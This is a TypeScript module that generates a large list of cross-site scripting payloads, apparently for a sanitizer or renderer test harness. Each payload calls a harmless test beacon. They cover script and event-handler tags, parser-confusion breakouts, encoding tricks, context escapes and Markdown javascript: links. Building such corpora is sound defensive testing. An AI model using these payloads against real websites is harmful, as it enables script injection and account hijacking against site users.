import { more } from './more'

/** Calls a function that the browser of the test gives to every frame, with the number of the payload. */
const call = (at: number) => `noteRun(${at})`
type Payload = (run: string) => string

/** Elements that run something as soon as they are there. */
const elements: Payload[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script/x>${run}</script >`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script nonce="">${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script src=data:,${run}></script>`,
  (run) => `<script>${run}<!--`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<svg><script>${entities(run)}</script></svg>`,
  (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  (run) => `<img src=x: onerror=${run}>`,
  (run) => `<img src="x:" onerror="${run}">`,
  (run) => `<img src='x:' onerror='${run}'>`,
  (run) => `<img src=\`x:\` onerror=${run}>`,
  (run) => `<IMG SRC=x: ONERROR=${run}>`,
  (run) => `<img/src=x:/onerror=${run}>`,
  (run) => `<img\nsrc=x:\nonerror\n=\n"${run}">`,
  (run) => `<img\tsrc=x:\tonerror=${run}\t>`,
  (run) => `<img src=x: onerror="${entities(run)}">`,
  (run) => `<img src=x: onerror="${hexEntities(run)}">`,
  (run) => `<img src=x: """><img src=x: onerror=${run}>`,
  (run) => `<img srcset="x: 1x" onerror=${run}>`,
  (run) => `<img alt="<x" title="/>" src=x: onerror=${run}>`,
  (run) => `<image src=x: onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x to=y>`,
  (run) => `<svg><animatetransform onbegin=${run}>`,
  (run) => `<svg><image href=x: onerror=${run}>`,
  (run) => `<svg><foreignObject><img src=x: onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><style onload=${run}></style></svg>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<style>@import "data:text/css,x"</style><img src=x: onerror=${run}>`,
  (run) => `<link rel=stylesheet href="data:text/css,x" onload=${run}>`,
  (run) => `<link rel=prefetch href="x:" onerror=${run}><img src=x: onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<body onpageshow=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<video src=x: onerror=${run}>`,
  (run) => `<audio src=x: onerror=${run}>`,
  (run) => `<object data=x: onerror=${run}></object>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="<img src=x: onerror=${run}>">`,
  (run) => `<iframe srcdoc="&lt;img src=x: onerror=${run}&gt;"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<textarea autofocus onfocus=${run}>`,
  (run) => `<button autofocus onfocus=${run}>`,
  (run) => `<a href=# autofocus onfocus=${run} tabindex=1>`,
  (run) => `<x autofocus tabindex=1 onfocus=${run}>`,
  (run) => `<x style="animation:a 1ms" onanimationend=${run}></x><style>@keyframes a{}</style>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<input type=image src=x: onerror=${run}>`,
  (run) => `<table background=x: ><td><img src=x: onerror=${run}></table>`,
]

/** What a parser reads differently the second time, or once it has stepped out of where it was. */
const confusing: Payload[] = [
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>`,
  (run) => `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
  (run) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`,
  (run) => `<template><p title="</template><img src=x: onerror=${run}>">`,
  (run) => `<title><p title="</title><img src=x: onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><img src=x: onerror=${run}>">`,
  (run) => `<noembed><p title="</noembed><img src=x: onerror=${run}>">`,
  (run) => `<iframe><p title="</iframe><img src=x: onerror=${run}>">`,
  (run) => `<textarea><p title="</textarea><img src=x: onerror=${run}>">`,
  (run) => `<svg><title><style><img src=x: onerror=${run}></style></title></svg>`,
  (run) => `<svg><desc><noscript><img src=x: onerror=${run}></noscript></desc></svg>`,
  (run) => `<![CDATA[<img src=x: onerror=${run}>]]>`,
  (run) => `<svg><![CDATA[</svg><img src=x: onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><img src=x: onerror=${run}>`,
  (run) => `<!--><img src=x: onerror=${run}>-->`,
  (run) => `<!--!><img src=x: onerror=${run}--!><img src=x: onerror=${run}>`,
  (run) => `<<img src=x: onerror=${run}>`,
  (run) => `<a<img src=x: onerror=${run}>`,
  (run) => `<p/<img src=x: onerror=${run}><img src=x: onerror=${run}>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<img src=x: onerror\u00a0=${run}><img src=x: onerror=${run}>`,
  (run) => `<\u0000script>${run}</script>`,
  (run) => `\ufeff<img src=x: onerror=${run}>`,
  (run) => `<div id=<img src=x: onerror=${run}>`,
  (run) => `<select><style></select><img src=x: onerror=${run}></style>`,
  (run) => `<frameset onload=${run}>`,
  (run) => `<plaintext><img src=x: onerror=${run}>`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&amp;lt;img src=x: onerror=${run}&amp;gt;`,
  (run) => `%3Cimg src=x: onerror=${run}%3E`,
  (run) => `%253Cscript%253E${run}%253C/script%253E`,
  (run) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  (run) => `\\u003cimg src=x: onerror=${run}\\u003e`,
]

/** What leads out of where text may stand: an attribute, an element of raw text, a comment, a script, JSON, XML. */
const ways = [
  '"',
  `'`,
  '">',
  `'>`,
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</code></pre>',
  '-->',
  ']]>',
  '"}]}</script>',
  '</content></entry>',
]
const behind: Payload[] = [
  (run) => `<img src=x: onerror=${run}>`,
  (run) => `<script>${run}</script>`,
  (run) => `<svg onload=${run}>`,
  (run) => ` autofocus tabindex=1 onfocus=${run} x="`,
  (run) => `;${run};//`,
]

/** What a renderer of Markdown could make a link, a picture or a tag of. */
const markdown: Payload[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    '&#x6A;avascript:',
    'javascript\\:',
    'j\\avascript:',
    'javascript%3A',
    'javascript://a%0a',
    'vbscript:',
    'data:text/html,<script>',
    'data:text/html;base64,',
    'blob:',
    'view-source:javascript:',
    'feed:javascript:',
    'x:javascript:',
    '//evil.example/',
    '\\\\evil.example/',
    'file:///',
  ].map(
    (scheme): Payload =>
      (run) =>
        `[a](${scheme}${run})`,
  ),
  (run) => `[a](<javascript:${run}>)`,
  (run) => `[a](javascript:${run} "b")`,
  (run) => `[a][b]\n\n[b]: javascript:${run}`,
  (run) => `<javascript:${run}>`,
  (run) => `<http://a.example/" onmouseover=${run} x=">`,
  (run) => `http://a.example/"onmouseover=${run}`,
  (run) => `http://a.example/'><img src=x: onerror=${run}>`,
  (run) => `[a](http://a.example/"onmouseover="${run})`,
  (run) => `[a](http://a.example "onmouseover=${run} x=\\"")`,
  (run) => `[<img src=x: onerror=${run}>](http://a.example)`,
  (run) => `![a](javascript:${run})`,
  (run) => `![a](x:"onerror="${run})`,
  (run) => `![a"onerror="${run}](x:)`,
  (run) => `![<img src=x: onerror=${run}>](x:)`,
  (run) => `\`<img src=x: onerror=${run}>\``,
  (run) => `\`\`\`"><img src=x: onerror=${run}>\nx\n\`\`\``,
  (run) => `\`\`\`html\n</code></pre><img src=x: onerror=${run}>\n\`\`\``,
  (run) => `    <img src=x: onerror=${run}>`,
  (run) => `> <img src=x: onerror=${run}>`,
  (run) => `- <img src=x: onerror=${run}>\n- </li></ul><script>${run}</script>`,
  (run) => `1. <svg onload=${run}>`,
  (run) => `**<img src=x: onerror=${run}>**`,
  (run) => `\\<img src=x: onerror=${run}>`,
  (run) => `@<img src=x: onerror=${run}>`,
  (run) => `@member"><img src=x: onerror=${run}>`,
  (run) => `<mailto:a@b.example"onmouseover=${run}>`,
  (run) => `<details><summary>a</summary><img src=x: onerror=${run}></details>`,
  (run) => `\${${run}} {{${run}}} <%= ${run} %> #{${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
]

const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('')
const hexEntities = (text: string) =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join('')

const all: Payload[] = [
  ...elements,
  ...confusing,
  ...ways.flatMap((way) =>
    behind.map(
      (what): Payload =>
        (run) =>
          way + what(run),
    ),
  ),
  ...markdown,
]

/**
 * Texts that run something where a page takes them for its own: they call `noteRun`, or what `hooks` names. Own ones of the
 * classes that the OWASP cheat sheets, HTML5 Security Cheatsheet and DOMPurify's tests name; then those of `--payloads`.
 */
export const scripts: string[] = [...all.map((payload, at) => payload(call(at))), ...more('xss')]

export const ownScripts = all.length
